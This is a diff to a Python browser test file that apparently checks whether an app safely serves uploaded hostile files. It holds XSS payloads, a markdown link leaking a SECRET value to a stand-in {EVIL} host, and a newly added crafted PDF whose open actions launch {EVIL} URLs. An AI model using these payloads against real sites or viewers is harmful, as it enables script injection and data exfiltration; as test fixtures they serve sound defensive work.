@@ -29,12 +29,18 @@ WORDS = f"""<script>window.ran=1</script> <img src=x onerror="window.ran=1">
 
 [z]: {EVIL}/?e=SECRET
 <iframe src="{EVIL}/f"></iframe> <math><mi xlink:href="javascript:window.ran=1">x</mi></math>"""
+PDF = f"""%PDF-1.4
+1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL("{EVIL}/j"))>>>>endobj
+2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
+3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]/AA<</O<</S/URI/URI({EVIL}/o)>>>>>>endobj
+trailer<</Root 1 0 R>>"""
 KINDS = {
     "drawing": ("image/svg+xml", SVG),
     "page": ("text/html", PAGE),
     "text": ("text/plain", WORDS),
 }
 KINDS["markdown"] = ("text/markdown", WORDS)
+KINDS["pdf"] = ("application/pdf", PDF)
 LIVE = "iframe, frame, object, embed, main script, dialog script, dialog form[action]"
 
 
@@ -62,7 +68,7 @@ def test_it_is_still_where_it_is_looked_at(studio: Running, opened: Opened) -> N
         page.get_by_role("dialog").wait_for(state="detached")
 
 
-@pytest.mark.parametrize("name", ["drawing", "page"])
+@pytest.mark.parametrize("name", ["drawing", "page", "pdf"])
 def test_its_own_address_hands_it_out_to_be_saved(
     studio: Running, opened: Opened, name: str
 ) -> None:
